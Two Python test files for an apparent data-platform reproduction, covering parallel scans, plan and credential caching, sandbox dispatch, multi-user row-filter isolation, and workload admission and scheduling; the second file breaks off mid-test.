from repro.platform import Workspace
from repro.sandbox.cluster_manager import ClusterManager
from repro.sandbox.dispatcher import Dispatcher
from repro.storage.credentials import (
    LIST,
    READ,
    CredentialCache,
    CredentialVendor,
)


# ---------------------------------------------------------------------------
# Parallel scans + trace propagation
# ---------------------------------------------------------------------------


def _make_multifile_table(admin_client, extra_inserts: int = 3) -> None:
    """Append extra commits so main.sales.orders spans several data files."""
    for i in range(extra_inserts):
        admin_client.sql(
            f"INSERT INTO main.sales.orders VALUES "
            f"({10 + 2 * i},'US',1.0,'px'),({11 + 2 * i},'EU',2.0,'py')"
        )


class TestParallelScanExecution:
    def test_multi_file_scan_uses_thread_pool(
        self, workspace, standard_cluster, admin_client
    ):
        _make_multifile_table(admin_client)
        source = standard_cluster.backend.data_source
        before = source.stats.parallel_scans
        alice = standard_cluster.connect("alice")
        rows = alice.sql("SELECT count(*) AS n FROM main.sales.orders").collect()
        assert rows == [(10,)]
        assert source.stats.parallel_scans == before + 1
        assert source.stats.executor_tasks >= 2

    def test_parallel_scan_results_match_serial(self, workspace):
        """Same table, num_executors 1 vs 4: identical ordered rows."""
        ws = workspace
        cat = ws.catalog
        serial = ws.create_standard_cluster(name="serial", num_executors=1)
        parallel = ws.create_standard_cluster(name="parallel", num_executors=4)
        admin = serial.connect("admin")
        admin.sql(
            "CREATE TABLE main.sales.parts (id int, region string, amount float,"
            " buyer string)"
        )
        for i in range(8):
            admin.sql(
                f"INSERT INTO main.sales.parts VALUES ({i},'US',{float(i)},'p{i}')"
            )
        admin.sql("GRANT USE CATALOG ON main TO analysts")
        admin.sql("GRANT USE SCHEMA ON main.sales TO analysts")
        admin.sql("GRANT SELECT ON main.sales.parts TO analysts")
        query = "SELECT id, amount FROM main.sales.parts ORDER BY id"
        rows_serial = serial.connect("alice").sql(query).collect()
        rows_parallel = parallel.connect("alice").sql(query).collect()
        assert rows_serial == rows_parallel
        assert len(rows_serial) == 8
        assert cat.get_table("main.sales.parts") is not None

    def test_scan_task_spans_join_originating_trace(
        self, workspace, standard_cluster, admin_client
    ):
        """Worker-thread spans carry the query's trace id, user and parent."""
        _make_multifile_table(admin_client)
        alice = standard_cluster.connect("alice")
        alice.sql("SELECT * FROM main.sales.orders").collect()
        trace_id = alice.last_trace_id
        telemetry = workspace.catalog.telemetry

        task_spans = telemetry.spans(trace_id=trace_id, kind="executor.task")
        assert len(task_spans) >= 2, "expected parallel scan tasks in the trace"
        assert all(s.name.startswith("scan-task-") for s in task_spans)
        assert {s.user for s in task_spans} == {"alice"}

        trace_span_ids = {s.span_id for s in telemetry.spans(trace_id=trace_id)}
        for span in task_spans:
            # Parented inside the same trace (onto the execute-stage span),
            # not floating as a root of its own.
            assert span.parent_id in trace_span_ids
        stage_spans = telemetry.spans(trace_id=trace_id, kind="pipeline.stage")
        assert stage_spans, "scan tasks must share the pipeline's trace"

    def test_worker_spans_never_leak_into_other_traces(
        self, workspace, standard_cluster, admin_client
    ):
        _make_multifile_table(admin_client)
        alice = standard_cluster.connect("alice")
        alice.sql("SELECT * FROM main.sales.orders").collect()
        first = alice.last_trace_id
        alice.sql("SELECT id FROM main.sales.orders").collect()
        second = alice.last_trace_id
        assert first != second
        telemetry = workspace.catalog.telemetry
        for trace_id in (first, second):
            tasks = telemetry.spans(trace_id=trace_id, kind="executor.task")
            assert tasks, f"trace {trace_id} lost its scan tasks"


# ---------------------------------------------------------------------------
# Secure-plan cache
# ---------------------------------------------------------------------------


def _key(fingerprint="f", user="alice", epoch=0, temp=0, principals=("alice",)):
    return PlanCacheKey(
        fingerprint=fingerprint,
        user=user,
        principals=frozenset(principals),
        policy_epoch=epoch,
        compute_id="c1",
        temp_state_version=temp,
    )


class TestSecurePlanCacheUnit:
    def test_hit_requires_identical_relation(self):
        cache = SecurePlanCache()
        relation = {"@type": "relation.read", "table": "t"}
        cache.insert(_key(), relation, analyzed="A", optimized="O")
        entry = cache.lookup(_key(), relation)
        assert entry is not None and entry.optimized == "O"
        # Same key, different proto (a fingerprint collision) must miss.
        assert cache.lookup(_key(), {"@type": "relation.read", "table": "u"}) is None

    def test_epoch_bump_is_a_hard_miss_and_evicts(self):
        cache = SecurePlanCache()
        relation = {"@type": "relation.read", "table": "t"}
        cache.insert(_key(epoch=1), relation, "A", "O")
        assert cache.lookup(_key(epoch=2), relation) is None
        assert cache.stats.stale_epoch_misses == 1
        assert len(cache) == 0, "superseded-epoch entry must be dropped"

    def test_user_and_temp_state_partition_the_cache(self):
        cache = SecurePlanCache()
        relation = {"@type": "relation.read", "table": "t"}
        cache.insert(_key(user="alice"), relation, "A-alice", "O-alice")
        assert cache.lookup(_key(user="bob", principals=("bob",)), relation) is None
        assert cache.lookup(_key(temp=1), relation) is None
        hit = cache.lookup(_key(user="alice"), relation)
        assert hit is not None and hit.analyzed == "A-alice"

    def test_lru_eviction_at_capacity(self):
        cache = SecurePlanCache(capacity=2)
        for i in range(3):
            relation = {"table": f"t{i}"}
            cache.insert(_key(fingerprint=f"f{i}"), relation, f"A{i}", f"O{i}")
        assert len(cache) == 2
        assert cache.stats.evictions == 1
        assert cache.lookup(_key(fingerprint="f0"), {"table": "t0"}) is None
        assert cache.lookup(_key(fingerprint="f2"), {"table": "t2"}) is not None

    def test_fingerprint_is_order_insensitive(self):
        a = fingerprint_relation({"x": 1, "y": {"b": 2, "a": 3}})
        b = fingerprint_relation({"y": {"a": 3, "b": 2}, "x": 1})
        assert a == b
        assert a != fingerprint_relation({"x": 1, "y": {"b": 2, "a": 4}})


class TestSecurePlanCacheEndToEnd:
    def test_repeated_query_hits_and_skips_reresolution(
        self, workspace, standard_cluster, admin_client
    ):
        cache = standard_cluster.backend.plan_cache
        alice = standard_cluster.connect("alice")
        query = "SELECT id FROM main.sales.orders ORDER BY id"
        first = alice.sql(query).collect()
        hits_before = cache.stats.hits
        second = alice.sql(query).collect()
        assert first == second
        assert cache.stats.hits == hits_before + 1

    def test_cached_plans_never_cross_users(
        self, workspace, standard_cluster, admin_client
    ):
        admin_client.sql(
            "ALTER TABLE main.sales.orders SET ROW FILTER "
            "(region = 'US' OR is_account_group_member('hr'))"
        )
        query = "SELECT id FROM main.sales.orders ORDER BY id"
        alice_rows = standard_cluster.connect("alice").sql(query).collect()
        # Prime alice's entry, then carol (hr member) runs the same text.
        standard_cluster.connect("alice").sql(query).collect()
        carol_rows = standard_cluster.connect("carol").sql(query).collect()
        assert alice_rows == [(1,), (3,)]
        assert carol_rows == [(1,), (2,), (3,), (4,)]

    def test_temp_view_redefinition_invalidates(
        self, workspace, standard_cluster, admin_client
    ):
        """Redefining a temp view must not serve the plan cached before it."""
        from repro.connect.client import col

        alice = standard_cluster.connect("alice")
        orders = alice.table("main.sales.orders")
        orders.filter(col("region") == "US").create_temp_view("mine")

        def ids() -> set:
            return {r[0] for r in alice.table("mine").collect()}

        assert ids() == {1, 3}
        assert ids() == {1, 3}  # cached repeat
        # Redefinition bumps the session temp-state version -> hard miss.
        orders.filter(col("region") == "EU").create_temp_view("mine")
        assert ids() == {2}
        session = standard_cluster.service.sessions.get_session(
            alice.session_id, "alice"
        )
        assert session.temp_state_version == 2

    def test_system_tables_bypass_the_plan_cache(
        self, workspace, standard_cluster, admin_client
    ):
        cache = standard_cluster.backend.plan_cache
        insertions_before = cache.stats.insertions
        admin_client.table("system.access.audit").collect()
        admin_client.table("system.access.audit").collect()
        assert cache.stats.insertions == insertions_before, (
            "system-table reads must never be cached"
        )


# ---------------------------------------------------------------------------
# Credential cache
# ---------------------------------------------------------------------------


@pytest.fixture
def vend_env():
    """A virtual clock, a vendor with a 100 s TTL, and a counting vend fn."""
    clock = VirtualClock()
    vendor = CredentialVendor(clock=clock, ttl_seconds=100.0)
    calls = []

    def vend():
        credential = vendor.issue("alice", ["s3://b/t/"], {READ, LIST})
        calls.append(credential)
        return credential

    return clock, vendor, vend, calls


class TestCredentialCache:
    def _get(self, cache, vend, epoch=0, validate=None):
        return cache.get_or_vend(
            principal="alice",
            securable="main.t",
            operations=frozenset({READ, LIST}),
            on_behalf_of=None,
            policy_epoch=epoch,
            vend=vend,
            validate=validate,
        )

    def test_reuse_within_ttl(self, vend_env):
        clock, _, vend, calls = vend_env
        cache = CredentialCache(clock=clock)
        first, reused1 = self._get(cache, vend)
        clock.advance(10.0)
        second, reused2 = self._get(cache, vend)
        assert (reused1, reused2) == (False, True)
        assert first is second and len(calls) == 1
        assert cache.stats.hits == 1 and cache.stats.misses == 1

    def test_refresh_ahead_revends_before_expiry(self, vend_env):
        clock, _, vend, calls = vend_env
        cache = CredentialCache(clock=clock, refresh_ahead_fraction=0.2)
        self._get(cache, vend)
        # 85 s into a 100 s TTL: 15 s (<20%) left -> refresh, not reuse.
        clock.advance(85.0)
        credential, reused = self._get(cache, vend)
        assert not reused and len(calls) == 2
        assert cache.stats.refreshes == 1
        assert not credential.is_expired(clock.now())

    def test_expired_credential_is_replaced(self, vend_env):
        clock, _, vend, calls = vend_env
        cache = CredentialCache(clock=clock, refresh_ahead_fraction=0.0)
        self._get(cache, vend)
        clock.advance(150.0)
        _, reused = self._get(cache, vend)
        assert not reused and len(calls) == 2
        assert cache.stats.expired_misses == 1

    def test_policy_epoch_bump_forces_fresh_vend(self, vend_env):
        clock, _, vend, calls = vend_env
        cache = CredentialCache(clock=clock)
        self._get(cache, vend, epoch=7)
        _, reused = self._get(cache, vend, epoch=8)
        assert not reused and len(calls) == 2
        assert cache.stats.stale_epoch_misses == 1

    def test_out_of_band_revocation_detected_by_validator(self, vend_env):
        clock, vendor, vend, calls = vend_env
        cache = CredentialCache(clock=clock)
        credential, _ = self._get(cache, vend, validate=vendor.validate)
        vendor.revoke(credential.token)
        fresh, reused = self._get(cache, vend, validate=vendor.validate)
        assert not reused and fresh is not credential
        assert cache.stats.expired_misses == 1

    def test_scan_path_reuses_cached_credential(
        self, workspace, standard_cluster, admin_client
    ):
        source = standard_cluster.backend.data_source
        alice = standard_cluster.connect("alice")
        alice.sql("SELECT id FROM main.sales.orders").collect()
        vended_before = source.stats.credentials_vended
        hits_before = source.stats.credential_cache_hits
        alice.sql("SELECT region FROM main.sales.orders").collect()
        assert source.stats.credentials_vended == vended_before
        assert source.stats.credential_cache_hits > hits_before


# ---------------------------------------------------------------------------
# Dispatcher: prewarming, spare pool, thread safety
# ---------------------------------------------------------------------------


def _dispatcher(min_pool_size: int = 0) -> Dispatcher:
    return Dispatcher(
        ClusterManager(backend="inprocess"), min_pool_size=min_pool_size
    )


class TestDispatcherPrewarm:
    def test_prewarm_moves_cold_start_off_the_query_path(self):
        dispatcher = _dispatcher()
        created = dispatcher.prewarm("s1", ["alice", "bob"])
        assert created == 2
        sandbox = dispatcher.acquire("s1", "alice")
        assert sandbox.trust_domain == "alice"
        assert dispatcher.stats.cold_starts == 0
        assert dispatcher.stats.prewarm_hits == 1
        assert dispatcher.stats.warm_acquisitions == 1

    def test_prewarm_respects_n_and_skips_pooled_domains(self):
        dispatcher = _dispatcher()
        assert dispatcher.prewarm("s1", ["a", "b", "c"], n=2) == 2
        # Already-pooled domains are not re-provisioned.
        assert dispatcher.prewarm("s1", ["a", "b", "c"]) == 1
        assert dispatcher.pool_size() == 3

    def test_spare_pool_claimed_instead_of_cold_start(self):
        dispatcher = _dispatcher(min_pool_size=2)
        assert dispatcher.spare_pool_size() == 2
        sandbox = dispatcher.acquire("s1", "alice")
        assert sandbox.trust_domain == "alice"
        assert dispatcher.spare_pool_size() == 1
        assert dispatcher.stats.cold_starts == 0
        assert dispatcher.stats.prewarm_hits == 1
        # Topping up restores the floor.
        assert dispatcher.ensure_min_pool() == 1
        assert dispatcher.spare_pool_size() == 2

    def test_spares_do_not_serve_custom_shaped_requests(self):
        dispatcher = _dispatcher(min_pool_size=1)
        dispatcher.acquire("s1", "alice", environment="env-2")
        # Pinned environment -> spare unusable -> cold start.
        assert dispatcher.spare_pool_size() == 1
        assert dispatcher.stats.cold_starts == 1

    def test_claimed_spare_still_enforces_trust_domain(self):
        from repro.engine.udf import udf as engine_udf

        @engine_udf("int")
        def f(x):
            return x

        dispatcher = _dispatcher(min_pool_size=1)
        sandbox = dispatcher.acquire("s1", "alice")
        assert sandbox.invoke(f.with_owner("alice"), [[1]]) == [1]
        with pytest.raises(TrustDomainViolation):
            sandbox.invoke(f.with_owner("eve"), [[1]])

    def test_release_session_destroys_prewarmed_sandboxes(self):
        dispatcher = _dispatcher()
        dispatcher.prewarm("s1", ["alice", "bob"])
        assert dispatcher.release_session("s1") == 2
        assert dispatcher.pool_size() == 0


class TestDispatcherThreadSafety:
    def test_concurrent_acquires_build_consistent_pool(self):
        dispatcher = _dispatcher()
        errors = []

        def worker(i: int) -> None:
            try:
                for _ in range(5):
                    sandbox = dispatcher.acquire(f"s{i % 4}", f"user{i % 3}")
                    assert sandbox.trust_domain == f"user{i % 3}"
            except Exception as exc:  # noqa: BLE001 - surfaced below
                errors.append(exc)

        threads = [threading.Thread(target=worker, args=(i,)) for i in range(12)]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
        assert not errors
        # 4 sessions x up to 3 domains each, never more.
        assert dispatcher.pool_size() <= 12
        snapshot = dispatcher.stats_snapshot()
        assert snapshot["cold_starts"] + snapshot["warm_acquisitions"] == 60

    def test_lock_contention_is_counted(self):
        dispatcher = _dispatcher()
        dispatcher._lock.acquire()
        try:
            blocked = threading.Thread(target=dispatcher.pool_size)
            blocked.start()
            # Give the thread time to hit the held lock.
            for _ in range(1000):
                if dispatcher.stats.lock_contentions:
                    break
                threading.Event().wait(0.001)
        finally:
            dispatcher._lock.release()
        blocked.join()
        assert dispatcher.stats.lock_contentions >= 1


# ---------------------------------------------------------------------------
# Batch-size chunking
# ---------------------------------------------------------------------------


class TestBatchSizeChunking:
    def _batch(self, n: int) -> ColumnBatch:
        schema = Schema((Field("id", INT), Field("name", STRING)))
        return ColumnBatch.from_dict(
            schema, {"id": list(range(n)), "name": [f"r{i}" for i in range(n)]}
        )

    def test_chunk_batch_slices_and_preserves_rows(self):
        chunks = list(chunk_batch(self._batch(10), 4))
        assert [c.num_rows for c in chunks] == [4, 4, 2]
        assert [v for c in chunks for v in c.column("id")] == list(range(10))

    def test_zero_batch_size_means_unlimited(self):
        batch = self._batch(10)
        assert list(chunk_batch(batch, 0)) == [batch]

    def test_governed_scan_honors_cluster_batch_size(self, workspace):
        cluster = workspace.create_standard_cluster(name="tiny", batch_size=2)
        admin = cluster.connect("admin")
        admin.sql("CREATE TABLE main.sales.chunked (id int, v float)")
        admin.sql(
            "INSERT INTO main.sales.chunked VALUES "
            "(1,1.0),(2,2.0),(3,3.0),(4,4.0),(5,5.0)"
        )
        rows = admin.sql("SELECT id FROM main.sales.chunked ORDER BY id").collect()
        assert rows == [(1,), (2,), (3,), (4,), (5,)]


# ---------------------------------------------------------------------------
# Concurrent multi-user execution
# ---------------------------------------------------------------------------

NUM_CONCURRENT_USERS = 4
CONCURRENT_ROUNDS = 4


@pytest.fixture
def concurrent_workspace():
    """Four users, four region groups, one row-filtered multi-file table."""
    ws = Workspace()
    ws.add_user("admin", admin=True)
    regions = ["US", "EU", "APAC", "LATAM"]
    for i, region in enumerate(regions):
        ws.add_user(f"user{i}")
        ws.add_group(f"g_{region.lower()}", [f"user{i}"])
    cat = ws.catalog
    cat.create_catalog("main", owner="admin")
    cat.create_schema("main.sales", owner="admin")
    cluster = ws.create_standard_cluster(num_executors=4)
    admin = cluster.connect("admin")
    admin.sql("CREATE TABLE main.sales.events (id int, region string, v float)")
    # Several commits -> several files -> parallel scan tasks per query.
    for commit in range(3):
        rows = ", ".join(
            f"({commit * 4 + i}, '{regions[i]}', {float(i)})" for i in range(4)
        )
        admin.sql(f"INSERT INTO main.sales.events VALUES {rows}")
    for region in regions:
        group = f"g_{region.lower()}"
        admin.sql(f"GRANT USE CATALOG ON main TO {group}")
        admin.sql(f"GRANT USE SCHEMA ON main.sales TO {group}")
        admin.sql(f"GRANT SELECT ON main.sales.events TO {group}")
    condition = " OR ".join(
        f"(region = '{r}' AND is_account_group_member('g_{r.lower()}'))"
        for r in regions
    )
    admin.sql(f"ALTER TABLE main.sales.events SET ROW FILTER ({condition})")
    return ws, cluster, regions


class TestConcurrentMultiUser:
    def test_parallel_users_stay_isolated_with_caches_on(
        self, concurrent_workspace
    ):
        ws, cluster, regions = concurrent_workspace
        results: dict[int, list[set]] = {i: [] for i in range(NUM_CONCURRENT_USERS)}
        trace_ids: dict[int, list[str]] = {i: [] for i in range(NUM_CONCURRENT_USERS)}
        errors: list[Exception] = []
        barrier = threading.Barrier(NUM_CONCURRENT_USERS)

        def run_user(i: int) -> None:
            try:
                client = cluster.connect(f"user{i}")
                barrier.wait(timeout=30)
                for _ in range(CONCURRENT_ROUNDS):
                    rows = client.sql(
                        "SELECT region FROM main.sales.events"
                    ).collect()
                    results[i].append({r[0] for r in rows})
                    trace_ids[i].append(client.last_trace_id)
            except Exception as exc:  # noqa: BLE001 - surfaced below
                errors.append(exc)

        threads = [
            threading.Thread(target=run_user, args=(i,), name=f"user-{i}")
            for i in range(NUM_CONCURRENT_USERS)
        ]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
        assert not errors, errors

        # Row-filter isolation: every result of every round is exactly the
        # user's own region, no matter what ran concurrently.
        for i in range(NUM_CONCURRENT_USERS):
            assert results[i] == [{regions[i]}] * CONCURRENT_ROUNDS, (
                f"user{i} saw {results[i]}"
            )

        # Trace hygiene: each query's trace carries exactly its own user on
        # every span, including worker-thread scan tasks.
        telemetry = ws.catalog.telemetry
        for i in range(NUM_CONCURRENT_USERS):
            for trace_id in trace_ids[i]:
                users = {s.user for s in telemetry.spans(trace_id=trace_id)}
                assert users == {f"user{i}"}, (
                    f"trace {trace_id} mixed users: {users}"
                )

        # The plan cache served repeats without ever crossing users.
        cache = cluster.backend.plan_cache
        assert cache.stats.hits >= NUM_CONCURRENT_USERS * (CONCURRENT_ROUNDS - 1)


# ---------------------------------------------------------------------------
# system.access.cache_stats
# ---------------------------------------------------------------------------


class TestCacheStatsTable:
    def test_admin_reads_hit_miss_counters(
        self, workspace, standard_cluster, admin_client
    ):
        alice = standard_cluster.connect("alice")
        query = "SELECT id FROM main.sales.orders"
        alice.sql(query).collect()
        alice.sql(query).collect()
        rows = admin_client.table("system.access.cache_stats").to_dict()
        caches = set(rows["cache"])
        assert any(c.startswith("plan_cache[") for c in caches)
        assert any(c.startswith("credential_cache[") for c in caches)
        assert any(c.startswith("sandbox_pool[") for c in caches)
        by_metric = {
            (c, m): v
            for c, m, v in zip(rows["cache"], rows["metric"], rows["value"])
        }
        plan_cache = next(c for c in caches if c.startswith("plan_cache["))
        assert by_metric[(plan_cache, "hits")] >= 1.0
        assert by_metric[(plan_cache, "misses")] >= 1.0

    def test_non_admin_cannot_read_cache_stats(
        self, workspace, standard_cluster, admin_client
    ):
        alice = standard_cluster.connect("alice")
        with pytest.raises(PermissionDenied):
            alice.table("system.access.cache_stats").collect()
