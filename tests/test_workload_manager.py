"""Workload manager, circuit breaker, and admission wiring tests.

Covers the scheduler subsystem in isolation (fair-share dispatch, token
buckets, backpressure, shedding lanes, deadline admission, cancellation)
and its integration points: the Connect service admission boundary, queued
interrupts, the sandbox-budget charge from the Dispatcher, the serverless
breaker, and the ``system.access.workload_stats`` table.
"""

import threading
import time

import pytest

from repro.common.clock import SystemClock, VirtualClock
from repro.common.context import QueryContext, QueryDeadlineExceeded
from repro.common.telemetry import Telemetry
from repro.connect import proto
from repro.connect.service import error_to_message, raise_from_message
from repro.connect.sessions import OP_INTERRUPTED, OP_QUEUED
from repro.errors import AdmissionError, CircuitOpenError, ClusterError
from repro.platform import Workspace
from repro.scheduler import (
    LANE_BATCH,
    LANE_INTERACTIVE,
    LANE_SYSTEM,
    STATE_CLOSED,
    STATE_HALF_OPEN,
    STATE_OPEN,
    CircuitBreaker,
    TenantPolicy,
    WorkloadManager,
    retry_with_backoff,
)


def make_manager(**kwargs) -> WorkloadManager:
    """A manager on a virtual clock (all fast-path / synchronous tests)."""
    clock = kwargs.pop("clock", VirtualClock())
    return WorkloadManager(
        name="test", clock=clock, telemetry=Telemetry(clock=clock), **kwargs
    )


def wait_until(predicate, timeout=5.0) -> None:
    """Poll ``predicate`` until true (real time); fail the test otherwise."""
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if predicate():
            return
        time.sleep(0.002)
    raise AssertionError("condition not reached within timeout")


class TestAdmissionFastPath:
    def test_free_slot_admits_immediately(self):
        mgr = make_manager(total_slots=2)
        ticket = mgr.admit("alice")
        assert ticket.state == "ADMITTED"
        assert ticket.queue_wait == 0.0
        assert mgr.slots_in_use() == 1
        ticket.release()
        assert mgr.slots_in_use() == 0

    def test_release_is_idempotent(self):
        mgr = make_manager(total_slots=1)
        ticket = mgr.admit("alice")
        ticket.release()
        ticket.release()
        assert mgr.slots_in_use() == 0
        # The slot is reusable afterwards.
        assert mgr.admit("alice").state == "ADMITTED"

    def test_system_lane_bypasses_saturation(self):
        mgr = make_manager(total_slots=1)
        held = mgr.admit("heavy")
        ticket = mgr.admit("ops", lane=LANE_SYSTEM)
        assert ticket.state == "ADMITTED"
        assert ticket.slotless
        # The system ticket never consumed the (occupied) slot.
        assert mgr.slots_in_use() == 1
        ticket.release()
        held.release()


class TestRateLimitAndBackpressure:
    def test_token_bucket_rejects_with_retry_after(self):
        clock = VirtualClock()
        mgr = make_manager(clock=clock, total_slots=8)
        mgr.configure_tenant(
            "alice", TenantPolicy(rate_per_second=1.0, burst=2)
        )
        mgr.admit("alice").release()
        mgr.admit("alice").release()
        with pytest.raises(AdmissionError) as exc_info:
            mgr.admit("alice")
        assert exc_info.value.reason == "rate_limited"
        assert exc_info.value.retry_after > 0
        # Tokens refill with (virtual) time.
        clock.advance(2.0)
        assert mgr.admit("alice").state == "ADMITTED"

    def test_per_tenant_queue_depth_bound(self):
        mgr = make_manager(total_slots=1)
        mgr.configure_tenant("alice", TenantPolicy(max_queue_depth=0))
        held = mgr.admit("alice")
        with pytest.raises(AdmissionError) as exc_info:
            mgr.admit("alice")
        assert exc_info.value.reason == "queue_full"
        held.release()

    def test_other_tenants_unaffected_by_one_tenants_rate(self):
        mgr = make_manager(total_slots=8)
        mgr.configure_tenant("greedy", TenantPolicy(rate_per_second=0.001, burst=1))
        mgr.admit("greedy").release()
        with pytest.raises(AdmissionError):
            mgr.admit("greedy")
        assert mgr.admit("bob").state == "ADMITTED"


class TestDeadlineAdmission:
    def test_upfront_rejection_when_wait_exceeds_deadline(self):
        clock = VirtualClock()
        mgr = make_manager(
            clock=clock, total_slots=1, expected_service_seconds=10.0
        )
        telemetry = Telemetry(clock=clock)
        held = mgr.admit("heavy")
        ctx = QueryContext.create(
            user="alice", telemetry=telemetry, clock=clock, deadline_seconds=1.0
        )
        with pytest.raises(QueryDeadlineExceeded):
            mgr.admit("alice", query_ctx=ctx)
        held.release()
        # With the slot free again the same deadline is admissible.
        ctx2 = QueryContext.create(
            user="alice", telemetry=telemetry, clock=clock, deadline_seconds=1.0
        )
        assert mgr.admit("alice", query_ctx=ctx2).state == "ADMITTED"

    def test_deadline_expires_while_queued(self):
        clock = SystemClock()
        mgr = make_manager(clock=clock, total_slots=1)
        held = mgr.admit("heavy")
        ctx = QueryContext.create(
            user="alice",
            telemetry=Telemetry(clock=clock),
            clock=clock,
            deadline_seconds=0.1,
        )
        started = time.monotonic()
        with pytest.raises(QueryDeadlineExceeded):
            mgr.admit("alice", query_ctx=ctx)
        assert time.monotonic() - started < 2.0
        assert mgr.queue_depth() == 0
        held.release()

    def test_admission_timeout(self):
        mgr = make_manager(
            clock=SystemClock(), total_slots=1, admission_timeout=0.1
        )
        held = mgr.admit("heavy")
        with pytest.raises(AdmissionError) as exc_info:
            mgr.admit("alice")
        assert exc_info.value.reason == "timeout"
        assert mgr.queue_depth() == 0
        held.release()


class TestFairShareDispatch:
    def _run_backlog(self, fair_share: bool) -> list[str]:
        """One slot, 4 heavy queries queued before 1 light; admission order."""
        mgr = make_manager(clock=SystemClock(), fair_share=fair_share, total_slots=1)
        order: list[str] = []
        order_lock = threading.Lock()
        held = mgr.admit("heavy")

        def worker(tenant: str) -> None:
            ticket = mgr.admit(tenant)
            with order_lock:
                order.append(tenant)
            ticket.release()

        threads = [
            threading.Thread(target=worker, args=("heavy",)) for _ in range(4)
        ]
        for t in threads:
            t.start()
        wait_until(lambda: mgr.queue_depth("heavy") == 4)
        light = threading.Thread(target=worker, args=("light",))
        light.start()
        wait_until(lambda: mgr.queue_depth() == 5)
        held.release()
        light.join(timeout=5)
        for t in threads:
            t.join(timeout=5)
        assert len(order) == 5
        return order

    def test_fair_share_interleaves_light_tenant(self):
        order = self._run_backlog(fair_share=True)
        # Stride scheduling: the light tenant (at global virtual time) runs
        # ahead of the heavy tenant's accumulated backlog.
        assert "light" in order[:2], order

    def test_fifo_mode_makes_light_tenant_wait(self):
        order = self._run_backlog(fair_share=False)
        # Arrival order: all four earlier heavy queries run first.
        assert order[-1] == "light", order

    def test_weights_bias_dispatch_ratio(self):
        mgr = make_manager(clock=SystemClock(), total_slots=1)
        mgr.configure_tenant("gold", TenantPolicy(weight=3.0))
        mgr.configure_tenant("bronze", TenantPolicy(weight=1.0))
        order: list[str] = []
        order_lock = threading.Lock()
        held = mgr.admit("warmup")

        def worker(tenant: str) -> None:
            ticket = mgr.admit(tenant)
            with order_lock:
                order.append(tenant)
            ticket.release()

        threads = [
            threading.Thread(target=worker, args=(t,))
            for t in ["gold"] * 6 + ["bronze"] * 6
        ]
        for t in threads:
            t.start()
        wait_until(lambda: mgr.queue_depth() == 12)
        held.release()
        for t in threads:
            t.join(timeout=5)
        # In the first 8 dispatches gold (weight 3) should clearly lead.
        first = order[:8]
        assert first.count("gold") > first.count("bronze"), order


class TestLoadShedding:
    def test_sheds_lowest_priority_lane_first(self):
        mgr = make_manager(clock=SystemClock(), total_slots=1, max_total_queue=1)
        held = mgr.admit("heavy")
        batch_error: list[Exception] = []

        def batch_worker() -> None:
            try:
                mgr.admit("batcher", lane=LANE_BATCH)
            except AdmissionError as exc:
                batch_error.append(exc)

        batch_thread = threading.Thread(target=batch_worker)
        batch_thread.start()
        wait_until(lambda: mgr.queue_depth() == 1)

        admitted: list[object] = []

        def interactive_worker() -> None:
            admitted.append(mgr.admit("alice", lane=LANE_INTERACTIVE))

        interactive_thread = threading.Thread(target=interactive_worker)
        interactive_thread.start()
        # The arriving interactive query displaces the queued batch query.
        batch_thread.join(timeout=5)
        assert batch_error and batch_error[0].reason == "shed"
        held.release()
        interactive_thread.join(timeout=5)
        assert admitted and admitted[0].state == "ADMITTED"
        assert mgr.lane_shed.get(LANE_BATCH) == 1

    def test_sheds_arrival_when_nothing_lower_priority(self):
        mgr = make_manager(clock=SystemClock(), total_slots=1, max_total_queue=1)
        held = mgr.admit("heavy")
        blocker = threading.Thread(target=lambda: mgr.admit("bob").release())
        blocker.start()
        wait_until(lambda: mgr.queue_depth() == 1)
        with pytest.raises(AdmissionError) as exc_info:
            mgr.admit("carol", lane=LANE_INTERACTIVE)
        assert exc_info.value.reason == "shed"
        held.release()
        blocker.join(timeout=5)


class TestCancellation:
    def test_cancel_dequeues_and_releases_reservation(self):
        mgr = make_manager(clock=SystemClock(), total_slots=1)
        held = mgr.admit("heavy")
        tickets: list[object] = []
        errors: list[Exception] = []

        def worker() -> None:
            try:
                mgr.admit(
                    "alice", on_enqueued=lambda t: tickets.append(t)
                )
            except AdmissionError as exc:
                errors.append(exc)

        thread = threading.Thread(target=worker)
        thread.start()
        wait_until(lambda: bool(tickets))
        assert tickets[0].cancel() is True
        thread.join(timeout=5)
        assert errors and errors[0].reason == "cancelled"
        assert mgr.queue_depth() == 0
        held.release()
        # No slot was leaked by the cancelled reservation.
        assert mgr.admit("alice").state == "ADMITTED"

    def test_cancel_admitted_ticket_is_a_no_op(self):
        mgr = make_manager(total_slots=1)
        ticket = mgr.admit("alice")
        assert ticket.cancel() is False
        assert ticket.state == "ADMITTED"
        ticket.release()


class TestReferencedTables:
    """Structural table-reference resolution (the lane-detection input)."""

    def test_read_and_sql_tables_resolve_structurally(self):
        assert proto.referenced_tables(proto.read_table("m.s.t")) == {"m.s.t"}
        assert proto.referenced_tables(
            proto.sql_relation("SELECT a FROM system.access.audit")
        ) == {"system.access.audit"}

    def test_string_literals_do_not_count_as_references(self):
        plan = proto.filter_relation(
            proto.read_table("m.s.t"),
            proto.binary(
                "=", proto.column("note"), proto.literal("see system.docs")
            ),
        )
        assert proto.referenced_tables(plan) == {"m.s.t"}
        sql = proto.sql_relation(
            "SELECT id FROM m.s.notes WHERE note = 'see system.docs'"
        )
        assert proto.referenced_tables(sql) == {"m.s.notes"}

    def test_joins_collect_every_source(self):
        plan = proto.sql_relation(
            "SELECT a.id FROM m.s.t a JOIN system.access.audit b ON a.id = b.id"
        )
        assert proto.referenced_tables(plan) == {"m.s.t", "system.access.audit"}

    def test_unresolvable_shapes_return_none(self):
        assert proto.referenced_tables(proto.relation_extension("x", {})) is None
        assert proto.referenced_tables(proto.sql_relation("NOT SQL AT ALL")) is None


class TestSandboxBudget:
    def test_sandbox_claims_count_against_in_flight_budget(self):
        mgr = make_manager(clock=SystemClock(), total_slots=4)
        mgr.configure_tenant("alice", TenantPolicy(max_in_flight=1))
        mgr.charge_sandbox("alice")
        admitted: list[object] = []
        thread = threading.Thread(
            target=lambda: admitted.append(mgr.admit("alice"))
        )
        thread.start()
        # Queued despite free slots: the sandbox claim fills the budget.
        wait_until(lambda: mgr.queue_depth("alice") == 1)
        assert not admitted
        mgr.release_sandbox("alice")
        thread.join(timeout=5)
        assert admitted and admitted[0].state == "ADMITTED"

    def test_execution_slot_without_ticket_is_noop(self):
